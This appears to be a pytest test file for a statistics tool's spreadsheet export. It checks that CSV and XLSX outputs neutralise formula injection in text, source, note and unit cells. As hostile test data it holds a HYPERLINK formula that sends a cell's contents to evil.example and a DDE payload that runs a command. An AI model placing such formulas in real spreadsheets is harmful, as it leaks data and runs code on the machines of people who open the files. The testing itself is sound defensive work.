"""Every spreadsheet `export` writes, opened with openpyxl: no formula cells that came from data.

Sources, notes, texts and units that start like a formula are neutralised (planwatch.inert_cells):
CSV cells get a leading quote, XLSX cells are string cells with the exact text; numbers stay numbers.
"""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from planwatch.inert_cells import FORMULA_TRIGGERS, csv_text, text_from_csv
from planwatch.model import Observation, ObservationKind, Series
from planwatch.observe import export_observations, import_file
from planwatch.store import open_store

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
# Hostile texts that survive the import unchanged (it trims the ends of a cell).
HOSTILE = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(1+1)", "-3.5%", "#N/A"]
# A text that starts with the neutralising quote itself: stored through the store API (a CSV cell
# '=x is read as the text =x), exported as ''=x so that it reads back as '=x.
QUOTED = "'=already quoted"
# Hostile texts only the store API keeps as they are: leading tab and carriage return.
RAW_HOSTILE = ["\t=1+1", "\r=1+1"]
SLOTS = [(region, year) for year in range(2020, 2026) for region in ("嘉兴市", "南湖区", "海宁市")]
RANK = Series(code="INC_R", name="农村居民人均可支配收入位次", unit="位次")


def _write_rows(path, rows):
    """A long-form CSV of ``rows`` under the usual header."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["indicator", "region", "year", "value", "unit", "source", "note"], *rows])
    return path


def _hostile_csv(path, texts):
    """A long-form CSV whose text value, source and note are hostile (each cell a different text)."""
    rows = []
    for n, ((region, year), text) in enumerate(zip(SLOTS, texts, strict=False)):
        rows.append(["INC_R", region, str(year), text, "位次", texts[(n + 1) % len(texts)],
                     texts[(n + 2) % len(texts)]])
    rows.append(["T2-1", "嘉兴市", "2021", "-3.5", "亿元", DDE, "-3.5%"])
    return _write_rows(path, rows)


@pytest.fixture
def imported_store(hand_store, tmp_path):
    """The hand store with hostile texts imported from CSV, one figure revised."""
    import_file(hand_store, _hostile_csv(tmp_path / "hostile.csv", HOSTILE), declare=[RANK])
    revised = _write_rows(tmp_path / "revised.csv", [["T2-1", "嘉兴市", "2021", "-4.25", "亿元", HYPERLINK, "@x"]])
    assert import_file(hand_store, revised).revised == 1
    hand_store.add_observations([Observation(indicator="INC_R", region="海宁市", year=2025, text="第2位", unit="位次",
                                             kind=ObservationKind.text, source=QUOTED, note="'-1")])
    return hand_store


@pytest.fixture
def hostile_store(imported_store):
    """The imported hostile store plus texts only the store API keeps: a leading tab or CR, odd units."""
    imported_store.add_observations([
        Observation(indicator="T2-3", region="嘉兴市", year=2022, value=-3.5, unit="+%", source="\t=1+1",
                    note="\r=1+1", extra={"source_quote": "=1+1", "rank": -2}),
        Observation(indicator="INC_R", region="嘉兴市", year=2025, text="-5", unit="@位次",
                    kind=ObservationKind.text, source="-", note="="),
    ])
    return imported_store


def _xlsx_cells(path):
    return [c for row in load_workbook(path).active.iter_rows() for c in row]


def _csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _stored_texts(store, include_revisions=True):
    """Every text the store holds in a column that export writes."""
    texts = set()
    for o in store.observations(include_revisions=include_revisions):
        texts |= {o.text, o.unit, o.source, o.note, *(v for v in o.extra.values() if isinstance(v, str))}
    return texts - {None, ""}


@pytest.mark.parametrize("revisions", [False, True])
def test_xlsx_export_has_no_formula_and_keeps_text_exact(hostile_store, tmp_path, revisions):
    out = tmp_path / "export.xlsx"
    export_observations(hostile_store, out, include_revisions=revisions)
    cells = _xlsx_cells(out)
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    strings = {c.value for c in cells if c.data_type == "s"}
    assert _stored_texts(hostile_store, revisions) <= strings  # exact: no quote added in a string cell
    assert {HYPERLINK, DDE, "\t=1+1", "\r=1+1"} <= strings
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -3.5 in numbers and -2 in numbers and 2022 in numbers


@pytest.mark.parametrize("revisions", [False, True])
def test_csv_export_quotes_text_that_reads_as_a_formula(hostile_store, tmp_path, revisions):
    out = tmp_path / "export.csv"
    export_observations(hostile_store, out, include_revisions=revisions)
    cells = _csv_cells(out)
    numbers = {"-3.5", "-2", "-4.25"}
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and c not in numbers]
    assert live == []
    assert numbers <= set(cells)  # real numbers are not quoted
    for text in _stored_texts(hostile_store, revisions):
        assert csv_text(text) in cells
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'-3.5%" in cells and "'" + QUOTED in cells
    assert "'\t=1+1" in cells and "'\r=1+1" in cells and "'-" in cells and "'=" in cells and "'@位次" in cells


def test_store_keeps_the_text_exact(hostile_store):
    assert {*HOSTILE, *RAW_HOSTILE, QUOTED} <= _stored_texts(hostile_store)


def _fresh_copy_of(store, tmp_path):
    fresh = open_store(f"sqlite:///{tmp_path / 'fresh.db'}")
    fresh.init()
    fresh.load_plan(store.plan())
    fresh.add_regions([(r.name, r.parent, r.level) for r in store.regions()])
    fresh.declare_series([RANK])
    return fresh


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_of_hostile_text_imports_back_unchanged(imported_store, tmp_path, suffix):
    out = tmp_path / f"export.{suffix}"
    export_observations(imported_store, out, include_revisions=True)
    again = import_file(imported_store, out)  # the same store: nothing new
    assert (again.inserted, again.revised, again.unchanged) == (0, 0, 10)
    fresh = _fresh_copy_of(imported_store, tmp_path)
    import_file(fresh, out)
    strip = lambda obs: [o.model_dump() for o in obs]  # noqa: E731
    assert strip(fresh.observations(include_revisions=True)) == strip(imported_store.observations(include_revisions=True))
    fresh.dispose()


@given(st.text(alphabet="'=+-@\t\rab1", max_size=6))
def test_csv_quote_is_undone_exactly(text):
    assert text_from_csv(csv_text(text)) == text
    assert not csv_text(text).startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("-3.5%", "'-3.5%"), ("@x", "'@x"), ("\t=x", "'\t=x"), ("'=x", "''=x"),
    ("'quoted", "'quoted"), ("嘉兴市", "嘉兴市"), ("", ""), ("1-2", "1-2"),
])
def test_csv_text(text, cell):
    assert csv_text(text) == cell
